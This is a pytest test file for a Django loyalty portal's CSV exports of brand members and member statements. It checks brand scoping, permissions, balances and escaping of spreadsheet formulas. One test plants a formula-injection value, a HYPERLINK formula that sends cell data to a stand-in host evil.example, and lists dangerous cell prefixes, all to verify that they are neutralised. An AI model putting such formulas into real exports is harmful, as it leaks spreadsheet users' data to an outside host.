"""The portal's CSV exports: a brand's members (the changelist's action and its "Export CSV" link) and one
member's statement. Brand-scoped like the rest of the portal, streamed, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import uuid
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from ledger.selectors import account_entries_oldest_first
from loyalty.exports import csv_cell
from loyalty.models import EarnRule, Membership, Tier
from loyalty.selectors import membership_balance, membership_pending
from perks.services import perk_redeem
from tests.loyalty.events import accept, process
from tests.loyalty.factories import AdjustmentFactory, BrandFactory, BrandStaffFactory, MembershipFactory, UserFactory
from tests.perks.factories import PerkFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:loyalty_membership_export")
CHANGELIST_URL = reverse("admin:loyalty_membership_changelist")


def statement_url(membership: Membership) -> str:
    return reverse("admin:loyalty_membership_statement_csv", args=[membership.pk])


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def purchase(email: str, order_id: str, amount: str) -> dict:
    return {"type": "purchase", "member": {"email": email}, "order_id": order_id, "amount": amount, "currency": "USD"}


def check_in(email: str) -> dict:
    return {"type": "check_in", "member": {"email": email}, "idempotency_key": uuid.uuid4().hex}


@pytest.fixture
def club():
    """Alpha with three members who earned (purchases, a check-in), redeemed and were adjusted; Bravo with
    one member of its own."""
    alpha, bravo = BrandFactory(name="Alpha", slug="alpha"), BrandFactory(name="Bravo", slug="bravo")
    for brand in (alpha, bravo):
        EarnRule.objects.create(brand=brand, event_type="purchase", points_per_unit=Decimal("1"), currency="USD")
        EarnRule.objects.create(brand=brand, event_type="check_in", points=5)
    Tier.objects.create(brand=alpha, name="Green", rank=1, threshold=0)
    Tier.objects.create(brand=alpha, name="Gold", rank=2, threshold=100)
    accept(
        alpha,
        purchase("ann@example.com", "A-1", "80.00"),
        purchase("ann@example.com", "A-2", "45.50"),
        purchase("bob@example.com", "B-1", "30.00"),
        check_in("bob@example.com"),
        check_in("cat@example.com"),
    )
    accept(bravo, purchase("zed@example.com", "Z-1", "70.00"))
    process(alpha)
    process(bravo)
    ann, bob, cat = (
        Membership.objects.get(brand=alpha, member__email=f"{name}@example.com") for name in ("ann", "bob", "cat")
    )
    Membership.objects.filter(pk=ann.pk).update(name="Ann", external_id="POS-1")
    Membership.objects.filter(pk=cat.pk).update(status=Membership.Status.SUSPENDED)
    perk_redeem(membership=bob, perk=PerkFactory(brand=alpha, cost=20), request_key="bob-1")
    AdjustmentFactory(membership=ann, points=-25, reason="damaged cup")
    AdjustmentFactory(membership=cat, points=40, reason="goodwill")
    zed = Membership.objects.get(brand=bravo)
    return {
        "alpha": alpha,
        "bravo": bravo,
        "ann": ann,
        "bob": bob,
        "cat": cat,
        "zed": zed,
        "staff_a": BrandStaffFactory(brand=alpha).user,
        "staff_b": BrandStaffFactory(brand=bravo).user,
    }


def expected_row(membership: Membership) -> dict[str, str]:
    """What the export must say of a membership, read through the portal's own selectors."""
    membership = Membership.objects.select_related("member", "brand", "tier").get(pk=membership.pk)
    return {
        "member_id": str(membership.pk),
        "email": membership.member.email,
        "external_id": membership.external_id or "",
        "name": membership.name,
        "brand": membership.brand.slug,
        "tier": membership.tier.name if membership.tier else "",
        "balance": str(membership_balance(membership)),
        "pending": str(membership_pending(membership)),
        "lifetime_earned": str(membership.lifetime_earned),
        "lifetime_redeemed": str(membership.lifetime_redeemed),
        "lifetime_expired": str(membership.lifetime_expired),
        "joined_at": membership.joined_at.isoformat(),
        "status": membership.status,
        "active": str(membership.status == Membership.Status.ACTIVE),
    }


# --- the members export ----------------------------------------------------------------------------


def test_the_export_is_the_members_with_their_ledger_balances(client, club):
    client.force_login(club["staff_a"])

    response = client.get(EXPORT_URL)

    today = timezone.localdate()
    assert response["Content-Disposition"] == f'attachment; filename="alpha-members-{today:%Y-%m-%d}.csv"'
    rows = rows_of(response)
    assert sorted(rows, key=lambda row: int(row["member_id"])) == [
        expected_row(m) for m in sorted((club["ann"], club["bob"], club["cat"]), key=lambda m: m.pk)
    ]
    by_email = {row["email"]: row for row in rows}
    # The figures the events, the redemption and the adjustments make: 125 - 25, 30 + 5 - 20, 5 + 40.
    assert [by_email[f"{n}@example.com"]["balance"] for n in ("ann", "bob", "cat")] == ["100", "15", "45"]
    assert (by_email["bob@example.com"]["lifetime_earned"], by_email["bob@example.com"]["lifetime_redeemed"]) == (
        "35",
        "20",
    )
    assert by_email["ann@example.com"]["tier"] == "Gold"
    assert (by_email["cat@example.com"]["status"], by_email["cat@example.com"]["active"]) == ("suspended", "False")


def test_the_action_exports_the_selected_members(client, club):
    client.force_login(club["staff_a"])

    response = client.post(
        CHANGELIST_URL,
        {"action": "export_selected_csv", "_selected_action": [club["ann"].pk, club["cat"].pk]},
    )

    assert {row["email"] for row in rows_of(response)} == {"ann@example.com", "cat@example.com"}


def test_a_filtered_changelist_exports_only_the_filtered_members(client, club):
    client.force_login(club["staff_a"])
    page = client.get(CHANGELIST_URL, {"status__exact": "active"}).content.decode()
    # The toolbar's link carries the changelist's filters on.
    assert f'href="{EXPORT_URL}?status__exact=active"' in page

    assert {row["email"] for row in rows_of(client.get(EXPORT_URL, {"status__exact": "active"}))} == {
        "ann@example.com",
        "bob@example.com",
    }
    assert [row["email"] for row in rows_of(client.get(EXPORT_URL, {"q": "bob@"}))] == ["bob@example.com"]


def test_staff_never_export_another_brands_members(client, club):
    client.force_login(club["staff_a"])
    bravo = club["bravo"].pk

    everything = rows_of(client.get(EXPORT_URL))
    filtered_on_bravo = client.get(EXPORT_URL, {"brand__id__exact": bravo})
    selected = client.post(CHANGELIST_URL, {"action": "export_selected_csv", "_selected_action": [club["zed"].pk]})

    assert "zed@example.com" not in {row["email"] for row in everything}
    assert {row["brand"] for row in everything} == {"alpha"}
    # The changelist's rows are the brand's before any filter or selection narrows them: a filter on
    # another brand shows (and exports) what the changelist shows, never that brand's members.
    shown = client.get(CHANGELIST_URL, {"brand__id__exact": bravo}).context["cl"].result_list
    assert {int(row["member_id"]) for row in rows_of(filtered_on_bravo)} == {m.pk for m in shown}
    assert club["zed"] not in shown
    assert rows_of(selected) == []
    assert client.get(statement_url(club["zed"])).status_code == 404


def test_a_superuser_exports_every_brand(client, club):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))

    response = client.get(EXPORT_URL)

    assert f'filename="all-brands-members-{timezone.localdate():%Y-%m-%d}.csv"' in response["Content-Disposition"]
    assert {row["email"] for row in rows_of(response)} == {f"{n}@example.com" for n in ("ann", "bob", "cat", "zed")}
    bravo_only = client.get(EXPORT_URL, {"brand__id__exact": club["bravo"].pk})
    assert 'filename="bravo-members-' in bravo_only["Content-Disposition"]
    assert [row["email"] for row in rows_of(bravo_only)] == ["zed@example.com"]


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(client, club):
    Membership.objects.filter(pk=club["ann"].pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"click")', external_id="+1-555"
    )
    Membership.objects.filter(pk=club["bob"].pk).update(name="@SUM(1)", external_id="-7")
    client.force_login(club["staff_a"])

    rows = {row["email"]: row for row in rows_of(client.get(EXPORT_URL))}

    assert rows["ann@example.com"]["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"click")"""
    assert rows["ann@example.com"]["external_id"] == "'+1-555"
    assert (rows["bob@example.com"]["name"], rows["bob@example.com"]["external_id"]) == ("'@SUM(1)", "'-7")
    statement = rows_of(client.get(statement_url(club["ann"])))
    assert statement[-1]["points"] == "-25"  # a debit is a number, not text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-25, -25),
        (Decimal("-1.5"), Decimal("-1.5")),
        (False, False),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_the_members_export_makes_the_same_queries_for_5_or_50_members(client):
    brand = BrandFactory(slug="gamma")
    EarnRule.objects.create(brand=brand, event_type="check_in", points=5)
    Tier.objects.create(brand=brand, name="Green", rank=1, threshold=0)
    client.force_login(BrandStaffFactory(brand=brand).user)

    def queries_of_an_export_with(members: int) -> int:
        have = Membership.objects.filter(brand=brand).count()
        accept(brand, *(check_in(f"m{n}@example.com") for n in range(have, members)))
        process(brand)
        with CaptureQueriesContext(connection) as queries:
            assert len(rows_of(client.get(EXPORT_URL))) == members
        return len(queries)

    assert queries_of_an_export_with(5) == queries_of_an_export_with(50)


# --- the statement ---------------------------------------------------------------------------------


def test_the_statement_is_every_entry_oldest_first_and_adds_up_to_the_balance(client, club):
    ann = club["ann"]
    client.force_login(club["staff_a"])
    page = client.get(reverse("admin:loyalty_membership_change", args=[ann.pk])).content.decode()
    assert statement_url(ann) in page and "Download statement (CSV)" in page

    response = client.get(statement_url(ann))

    assert f'filename="alpha-member-{ann.pk}-statement-' in response["Content-Disposition"]
    rows = rows_of(response)
    assert [(row["kind"], row["points"]) for row in rows] == [("earn", "80"), ("earn", "45"), ("adjustment", "-25")]
    assert [row["reference"] for row in rows] == ["A-1", "A-2", ""]
    assert rows[-1]["reason"] == "Adjustment: damaged cup"
    posted = [row["posted_at"] for row in rows]
    assert posted == sorted(posted)
    assert sum(int(row["points"]) for row in rows) == membership_balance(ann) == int(rows[-1]["balance_after"])
    assert [int(row["balance_after"]) for row in rows] == [80, 125, 100]
    keys = [row["key"] for row in rows]
    assert keys[0].startswith("event:") and all(keys)


def test_the_statement_of_a_member_with_no_wallet_is_its_header(client, club):
    newcomer = MembershipFactory(brand=club["alpha"])
    client.force_login(club["staff_a"])
    assert rows_of(client.get(statement_url(newcomer))) == []


def test_account_entries_oldest_first_is_in_posting_order(club):
    wallet = club["bob"].wallet
    entries = list(account_entries_oldest_first(account=wallet))
    assert [entry.seq for entry in entries] == list(range(1, len(entries) + 1))
    assert [entry.transaction.kind for entry in entries] == ["earn", "earn", "redeem"]


# --- who may export --------------------------------------------------------------------------------


def test_a_login_without_view_permission_is_refused(client, club):
    client.force_login(UserFactory(is_staff=True))  # staff of no brand: no view permission on memberships

    assert client.get(EXPORT_URL).status_code == 403
    assert client.get(statement_url(club["ann"])).status_code == 403
    action = {"action": "export_selected_csv", "_selected_action": [club["ann"].pk]}
    assert client.post(CHANGELIST_URL, action).status_code == 403

    client.force_login(UserFactory(is_staff=False))  # not a portal login at all: to the login page
    assert client.get(EXPORT_URL).status_code == 302
    assert client.get(statement_url(club["ann"])).status_code == 302


def test_filters_the_changelist_would_refuse_are_a_bad_request(client, club):
    client.force_login(club["staff_a"])
    assert client.get(EXPORT_URL, {"tier__id__exact": "not-a-number"}).status_code == 400
